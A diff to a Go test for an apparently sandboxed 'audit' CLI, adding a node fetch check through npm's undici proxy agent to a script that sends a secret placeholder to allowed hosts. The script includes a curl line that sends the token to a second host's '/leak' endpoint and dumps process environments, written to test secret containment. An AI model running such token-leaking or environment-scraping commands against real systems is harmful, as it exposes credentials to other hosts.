@@ -124,9 +124,16 @@ func gitRepo(t *testing.T, dir string) string {
 	return repos
 }
 
+// npmUndici is the undici that npm ships (Debian's npm package): node's
+// fetch is undici's, and undici's EnvHttpProxyAgent uses the proxy
+// variables, which node 20's global fetch ignores.
+const npmUndici = "/usr/lib/node_modules/npm/node_modules/undici"
+
 // secretsScript is the script of TestSecretCLI: curl, Python urllib and
-// requests, node (https over a CONNECT tunnel: node 20's fetch ignores the proxy
-// variables) and git over HTTPS send the placeholder of TOKEN to the
+// requests, node (https over a CONNECT tunnel, and fetch: undici's, with
+// its EnvHttpProxyAgent, since node 20's global fetch ignores the proxy
+// variables and a second undici's Wasm parser does not fit the address
+// space limit) and git over HTTPS send the placeholder of TOKEN to the
 // secret's host, curl sends it to another allowed host too; then the
 // script prints what the run can see (its environment, every process's
 // environ and command line, the CA bundle and the temp and home folders)
@@ -152,6 +159,10 @@ http.request({host: p.hostname, port: p.port, method: "CONNECT", path: u.host}).
   let d = ""; s.on("data", c => d += c); s.on("end", () => console.log(d.split("\r\n\r\n")[1]));
   s.on("error", e => console.log("error " + e.message));
 }).end();' 2>&1)"
+echo "fetch: $(node --no-warnings -e '
+const undici = require(process.env.UNDICI);
+undici.fetch(process.env.BASE + "/api/fetch", {dispatcher: new undici.EnvHttpProxyAgent(), headers: {authorization: "Bearer " + process.env.TOKEN}})
+  .then(r => r.text()).then(console.log, e => console.log("error " + (e.cause ? e.cause.message : e.message)));' 2>&1)"
 git clone -q "https://x-access-token:$TOKEN@$HOSTPORT/git/repo.git" "$HOME/clone" 2>&1 && echo "git: $(git -C "$HOME/clone" log --format=%s)"
 echo "other: $(curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "http://$OTHER/leak?t=$TOKEN")"
 echo "--- scan"
@@ -203,7 +214,7 @@ func TestSecretCLI(t *testing.T) {
 	cmd := exec.Command(cliBinary, "audit", "--quiet", "--timeout", "90s", "--memory", "1024",
 		"--allow-host", srv.addr, "--allow-host", otherAddr, "--secret", "TOKEN@"+srv.addr,
 		"--env", "HOSTPORT="+srv.addr, "--env", "BASE=https://"+srv.addr, "--env", "OTHER="+otherAddr,
-		"--env", "SCAN_MARKER="+marker, skill, "secrets.sh")
+		"--env", "SCAN_MARKER="+marker, "--env", "UNDICI="+npmUndici, skill, "secrets.sh")
 	cmd.Env = append(os.Environ(), "TOKEN="+value, "SSL_CERT_FILE="+srv.caFile)
 	stdin, _ := cmd.StdinPipe()
 	stdout, _ := cmd.StdoutPipe()
@@ -224,6 +235,11 @@ func TestSecretCLI(t *testing.T) {
 
 	got := out.String()
 	wants := []string{"curl: ok /api/curl", "python: ok /api/python", "node: ok /api/node", "git: first", "ready"}
+	if _, err := os.Stat(npmUndici); err == nil || os.Getenv("CI") == "true" {
+		wants = append(wants, "fetch: ok /api/fetch")
+	} else {
+		t.Log("npm's undici not found: node fetch not tested")
+	}
 	if exec.Command("/usr/bin/python3", "-c", "import requests").Run() == nil || os.Getenv("CI") == "true" {
 		wants = append(wants, "requests: ok /api/requests")
 	} else {
